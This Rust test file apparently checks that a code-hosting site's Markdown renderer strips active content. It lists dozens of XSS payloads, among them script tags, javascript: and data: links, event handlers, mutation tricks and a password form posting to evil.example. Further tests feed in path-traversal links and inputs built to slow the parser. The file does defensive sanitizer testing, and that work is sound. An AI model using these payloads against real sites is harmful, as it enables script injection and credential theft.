use std::time::{Duration, Instant};

use super::*;

fn links() -> Links {
    Links {
        module: "/aubervac/facturation".to_owned(),
        rev: "main".to_owned(),
        folder: "docs".parse().ok(),
    }
}

fn shown(text: &str) -> String {
    serde_json::to_value(html(text, &links())).unwrap().as_str().unwrap().to_owned()
}

/// Attributes and elements that let a text do something, wherever they stand in a tag.
fn faults(out: &str) -> Vec<String> {
    let lower = out.to_lowercase();
    let mut faults = Vec::new();
    for tag in lower.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        if !TAGS.contains(&name.as_str()) {
            faults.push(format!("<{name}>"));
        }
        for (at, _) in tag.match_indices('=') {
            let attribute: String =
                tag[..at].chars().rev().take_while(|c| c.is_alphanumeric() || *c == '-').collect();
            let attribute: String = attribute.chars().rev().collect();
            let before = tag[..at].matches('"').count();
            if before % 2 == 1 {
                continue;
            }
            if attribute.starts_with("on")
                || ["style", "srcset", "name", "action"].contains(&&*attribute)
            {
                faults.push(attribute);
            }
        }
        for wrong in [
            "href=\"javascript:",
            "href=\"data:",
            "href=\"vbscript:",
            "src=\"data:",
            "src=\"http",
            "src=\"//",
        ] {
            if tag.contains(wrong) {
                faults.push(wrong.to_owned());
            }
        }
    }
    faults
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x \"a\\\" onmouseover=alert(1)\")",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](x\" onerror=\"alert(1))",
    "![\"><img src=x onerror=alert(1)>](a.png)",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" srcset=\"https://evil.example/a 1x\">",
    "<img src=`x` onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x \
     onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img tit\
     le=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div class=\"skip flash error\">x</div>",
    "<a href=x name=body>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"\u{0}javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<h1 onclick=alert(1)>x</h1>",
    "<h1<img src=x onerror=alert(1)>>",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
    "```html\"><img src=x onerror=alert(1)>\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "- [ ] <img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus></select>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<q cite=javascript:alert(1)>x</q>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element is=x onconnected=alert(1)>x</custom-element>",
    "<dialog open>x</dialog><slot name=x></slot>",
];

#[test]
fn hostile_texts_do_nothing() {
    for text in HOSTILE {
        let out = shown(text);
        assert!(faults(&out).is_empty(), "{:?} in\n{text}\n→ {out}", faults(&out));
    }
}

#[test]
fn the_judge_of_this_test_finds_what_it_is_to_find() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<p style=\"x\">",
        "<img src=\"https://x\">",
    ] {
        assert!(!faults(bad).is_empty(), "{bad}");
    }
    assert!(faults("<p title=\"onclick=x\">a = b</p>").is_empty());
}

#[test]
fn nothing_that_draws_or_computes_is_on_the_list() {
    for tag in [
        "svg",
        "math",
        "animate",
        "annotation-xml",
        "style",
        "form",
        "input",
        "iframe",
        "script",
        "template",
    ] {
        assert!(!TAGS.contains(&tag), "{tag}");
    }
}

#[test]
fn ids_are_not_those_of_the_page() {
    let out = shown("# Content\n\n[up](#content)\n\n<p id=errors>x</p>\n\n# Content");
    assert!(out.contains("<h3 id=\"user-content-content\">"), "{out}");
    assert!(out.contains("<h3 id=\"user-content-content-1\">"), "{out}");
    assert!(out.contains("href=\"#user-content-content\""), "{out}");
    assert!(out.contains("<p id=\"user-content-errors\">"), "{out}");
}

#[test]
fn headings_stand_below_those_of_the_page() {
    let out = shown("# A\n\n## B\n\n### C\n\n###### D\n\n<h1 align=center>E</h1>");
    let levels: Vec<_> = out.match_indices("<h").map(|(at, _)| &out[at..at + 3]).collect();
    assert_eq!(levels, ["<h3", "<h4", "<h5", "<h6", "<h3"]);
}

#[test]
fn relative_addresses_lead_to_the_same_revision() {
    for (text, expected) in [
        ("[x](guide.md)", "href=\"/aubervac/facturation/blob/main:docs/guide.md\""),
        ("[x](../src/main.rs#L3)", "href=\"/aubervac/facturation/blob/main:src/main.rs#L3\""),
        ("[x](/LICENSE)", "href=\"/aubervac/facturation/blob/main:LICENSE\""),
        ("[x](images/)", "href=\"/aubervac/facturation/tree/main:docs/images\""),
        ("[x](..)", "href=\"/aubervac/facturation/tree/main\""),
        ("[x](<a b.md>)", "href=\"/aubervac/facturation/blob/main:docs/a%20b.md\""),
        ("![x](a.png)", "src=\"/aubervac/facturation/raw/main:docs/a.png\""),
        ("<img src=a.png>", "src=\"/aubervac/facturation/raw/main:docs/a.png\""),
    ] {
        let out = shown(text);
        assert!(out.contains(expected), "{text} → {out}");
    }
    for nowhere in
        ["[x](../../x)", "[x](../../../etc/passwd)", "[x](%2e%2e/%2e%2e/x)", "[x](.git/config)"]
    {
        let out = shown(nowhere);
        assert!(!out.contains("href"), "{nowhere} → {out}");
    }
}

#[test]
fn an_image_of_another_site_is_a_link_to_it() {
    for text in ["![Coverage](https://badge.example/x.svg)", "![Coverage](//badge.example/x.svg)"] {
        let out = shown(text);
        assert!(out.contains("<a href=") && out.contains(">Coverage</a>"), "{out}");
        assert!(!out.contains("<img"), "{out}");
    }
    for text in [
        "<img src=https://x.example/a.png alt=Logo>",
        "<img src='\\\\x.example/a.png'>",
        "<img src='/\t/x.example/a'>",
    ] {
        assert!(!shown(text).contains("src="), "{}", shown(text));
    }
}

/// Far above what a busy machine needs, far below the minutes that nested tags once took.
const SLOW: Duration = Duration::from_secs(40);

#[test]
fn a_text_made_to_be_slow_is_not() {
    for text in [
        "[".repeat(500_000),
        "*a ".repeat(150_000),
        ">".repeat(50_000),
        "- ".repeat(50_000),
        "<div>".repeat(60_000),
        "<div></b>".repeat(60_000),
        "<p>".repeat(100_000),
        "<p></p>".repeat(60_000),
        format!("{}{}", "<b title=1><i>".repeat(25), "x\n\n<p>".repeat(4_000)),
        format!("|{}\n|{}\n", "a|".repeat(10_000), "-|".repeat(10_000)),
        "`".repeat(400_000),
        "![a](".repeat(80_000),
    ] {
        let one = Instant::now();
        let out = shown(&text);
        assert!(faults(&out).is_empty());
        assert!(one.elapsed() < SLOW, "{:.20}: {:?}", text, one.elapsed());
    }
}

#[test]
fn a_text_too_long_is_shown_as_it_was_typed() {
    let out = shown(&format!("<b>{}", "x\n".repeat(BYTES_MAX)));
    assert!(
        out.starts_with("<pre class=\"code\" tabindex=\"0\"><code>&lt;b&gt;x\nx"),
        "{:.80}",
        out
    );
}
